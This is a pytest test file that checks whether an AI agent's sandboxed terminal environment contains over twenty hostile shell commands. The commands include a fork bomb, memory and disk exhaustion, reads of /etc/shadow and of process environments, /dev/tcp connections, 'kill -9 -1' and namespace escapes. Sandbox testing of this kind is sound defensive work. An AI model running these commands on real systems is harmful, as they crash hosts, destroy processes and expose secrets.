"""Hostile shell commands against the Terminal env: each one must be contained, to the standard of the
Python tool's held-out set (tests/tools/test_python_security.py, whose canaries and loopback servers
this module reuses).

Every command runs with a 2 s limit and must come back within 5 s with a readable observation; no
canary (a host file's content, a host environment variable) may appear in any observation; the host's
files, servers and processes are checked from outside; afterwards the env still runs a command, and
once it is closed none of its sandbox's processes is left.
"""

from __future__ import annotations

import os
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tools"))

from hostile_snippets import FILE_SECRET, LEAK_FILE, SECRET, SECRET_VAR, Host, hostile_host  # noqa: E402
from sandbox_support import require_bwrap  # noqa: E402

import gem_core  # noqa: E402
from gem_core.core import MAX_OBSERVATION_CHARS  # noqa: E402
from gem_core.envs.terminal.shell import living_sandbox_processes  # noqa: E402

TIMEOUT = 2.0
LIMIT = TIMEOUT + 3.0
REPO = Path(__file__).resolve().parents[2]


@dataclass
class Attack:
    name: str
    command: str
    check: Callable[[str, dict, Host], None]


ATTACKS: list[Attack] = []


def attack(name: str, command: str):
    def register(check):
        ATTACKS.append(Attack(name, command, check))
        return check

    return register


# -- files
@attack("read a canary file and list its dir", "cat CANARY_FILE; ls CANARY_DIR; echo end")
def _(obs, info, host):
    assert obs.count("No such file or directory") == 2  # and neither the content nor a listing came back


@attack(
    "read /etc/shadow, /etc/passwd, the repo and the host's home",
    f"for p in /etc/shadow /etc/passwd {REPO}/pyproject.toml /root/.bashrc; do if head -c 40 $p 2>/dev/null; then echo READ $p; else echo denied $p; fi; done; "
    f"ls {REPO} {Path.home()} 2>&1 | head -n 3",
)
def _(obs, info, host):
    assert "READ" not in obs and obs.count("denied") == 4 and "root:x" not in obs and "[project]" not in obs
    # At most the empty parents of the read-only interpreter mount: none of the repo's or the home's files.
    # (a checkout under /tmp is not there at all: the sandbox's /tmp is its own)
    listing = [line for line in obs.split("denied /root/.bashrc\n", 1)[1].splitlines()[:-1] if not line.endswith("No such file or directory")]
    assert set(listing) <= {"/root:", "", f"{REPO}:", f"{Path.home()}:"}, listing


@attack(
    "write into a host dir and into system dirs",
    "for p in CANARY_DIR/pwned /usr/gem_pwned /gem_pwned /etc/gem_pwned /bin/gem_pwned; do (echo x > $p) 2>/dev/null && echo WROTE $p; done; echo end",
)
def _(obs, info, host):
    assert "WROTE" not in obs and not (host.canary_dir / "pwned").exists() and not Path("/usr/gem_pwned").exists()


@attack("leave a file in /tmp", f"echo state > {LEAK_FILE} && echo LEFT")
def _(obs, info, host):
    assert "LEFT" in obs and not Path(LEAK_FILE).exists()  # the sandbox's own /tmp, not the host's


@attack(
    "fill the disk: a huge file, then many files",
    "head -c 200M /dev/zero > big; echo big $?; for i in 1 2 3 4 5 6 7 8; do head -c 15M /dev/zero > f$i || break; done; df -m /app | tail -n 1",
)
def _(obs, info, host):
    assert "File too large" in obs and "No space left on device" in obs


# -- network
@attack(
    "TCP connect to the host's loopback server",
    "(exec 3<>/dev/tcp/127.0.0.1/TCP_PORT && echo CONNECTED) 2>&1; curl -s -m 1 http://127.0.0.1:TCP_PORT/ && echo CURLED; echo end",
)
def _(obs, info, host):
    assert "CONNECTED" not in obs and "CURLED" not in obs and host.tcp_hits == []


@attack("UDP datagram to the host's loopback server", "echo leak > /dev/udp/127.0.0.1/UDP_PORT; sleep 0.2; echo end")
def _(obs, info, host):
    assert host.udp_hits == []


@attack("network interfaces", "cat /proc/net/dev")
def _(obs, info, host):
    names = [line.split(":")[0].strip() for line in obs.splitlines() if ":" in line and "|" not in line and "exit code" not in line]
    assert names == ["lo"]


# -- processes and resources
@attack("fork bomb", ":(){ :|:& };:; sleep 1; echo survived")
def _(obs, info, host):
    assert info.get("timed_out") or "survived" in obs or "fork" in obs


@attack("memory bomb in bash", "s=x; while :; do s=$s$s; done")
def _(obs, info, host):
    assert info.get("timed_out") or "shell exited" in obs or "cannot allocate" in obs


@attack(
    "memory bomb: one 8 GiB allocation", "command -v python3 > /dev/null || echo NO-PYTHON; python3 -c 'x = bytearray(8 * 1024 ** 3); print(\"ALLOCATED\")'"
)
def _(obs, info, host):
    assert "ALLOCATED" not in obs and ("MemoryError" in obs or "NO-PYTHON" in obs)


@attack("infinite loop", "while :; do :; done")
def _(obs, info, host):
    assert info["timed_out"] and "killed" in obs


@attack("sleep past the limit", "sleep 60; echo WOKE")
def _(obs, info, host):
    assert info["timed_out"] and "WOKE" not in obs


@attack("huge output", "yes | head -c 64000000")
def _(obs, info, host):
    assert info["truncated"] and len(obs) < 5000


@attack("signal the host process", "kill -9 HOST_PID && echo KILLED HOST; echo end")
def _(obs, info, host):
    assert "KILLED HOST" not in obs


@attack("kill every process it can", "kill -9 -1; echo end")
def _(obs, info, host):
    # The agent's own shell dies; its supervisor is out of reach (root host) or the episode ends.
    assert "shell exited" in obs or "sandbox is gone" in obs or "end" in obs


@attack("become root, make a user namespace, mount", "unshare -U true && echo UNSHARED; mount -t tmpfs none /mnt 2>/dev/null && echo MOUNTED; id -u")
def _(obs, info, host):
    assert "UNSHARED" not in obs and "MOUNTED" not in obs and "\n0\n" not in "\n" + obs


@attack(
    "devices and kernel interfaces",
    "for p in /dev/mem /dev/sda /dev/vda /proc/kcore /sys/kernel/notes; do head -c 1 $p > /dev/null 2>&1 && echo READ $p; done; echo end",
)
def _(obs, info, host):
    assert "READ" not in obs


# -- secrets and snooping
@attack("read the environment of every process", "env; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>&1 | head -c 3000")
def _(obs, info, host):
    assert SECRET_VAR not in obs


@attack("/proc snooping", "ls /proc | grep -c '^[0-9]'")
def _(obs, info, host):
    # bwrap's init, the supervisor, the shell, ls and grep (and the subshell): nothing of the host
    assert int(obs.split()[0]) <= 8


@attack("read the supervisor's memory", "for p in /proc/[0-9]*; do head -c 1 $p/mem > /dev/null 2>&1 && echo OPENED $p; done; echo end")
def _(obs, info, host):
    assert "OPENED /proc/2" not in obs and "OPENED /proc/1\n" not in obs


@pytest.fixture(scope="module")
def host():
    require_bwrap()
    with hostile_host() as h:
        yield h


def sandbox_processes() -> list[int]:
    """Living processes of this test process's terminal sandboxes (not the Python tool's pool workers)."""
    return living_sandbox_processes()


def step(env, command: str):
    started = time.monotonic()
    obs, reward, terminated, truncated, info = env.step(f"```bash\n{command}\n```")
    assert time.monotonic() - started < LIMIT
    assert SECRET not in obs and FILE_SECRET not in obs, obs[:500]
    assert len(obs) <= MAX_OBSERVATION_CHARS
    return obs, reward, terminated, truncated, info


@pytest.mark.parametrize("hostile", ATTACKS, ids=[a.name for a in ATTACKS])
def test_hostile_command_is_contained(host, hostile):
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=TIMEOUT)  # made while the canary is set
    env.reset(seed=0)
    try:
        obs, _reward, terminated, _truncated, info = step(env, host.fill(hostile.command))
        hostile.check(obs, info, host)
        if not terminated:  # the env goes on: the next command runs normally
            obs, *_ = step(env, "echo $((6 * 7))")
            # (after a fork bomb, bash may first say "fork: retry" while the bomb's leftovers hold the process limit)
            assert "42\n" in obs and obs.endswith("[exit code: 0]"), obs
    finally:
        env.close()
    assert sandbox_processes() == []


def test_at_least_20_hostile_commands():
    assert len(ATTACKS) >= 20


def test_background_processes_die_with_the_episode(host):
    env = gem_core.make("terminal:Tasks-v0", task="count-errors", command_timeout=TIMEOUT)
    env.reset(seed=0)
    step(env, "setsid nohup sleep 1000 > /dev/null 2>&1 & (while :; do sleep 0.1; done &) ; disown -a; echo started")
    assert sandbox_processes()  # bwrap, the sandbox's init, the supervisor
    assert [pid for pid in _host_pids() if b"sleep\x001000" in _cmdline(pid)]  # the daemon runs
    # The checker runs only after the agent's processes are gone; the end of the episode ends the sandbox.
    env.step("submit")
    assert sandbox_processes() == []
    assert not [pid for pid in _host_pids() if b"sleep\x001000" in _cmdline(pid)]


def _host_pids() -> list[int]:
    return [int(p) for p in os.listdir("/proc") if p.isdigit()]


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""
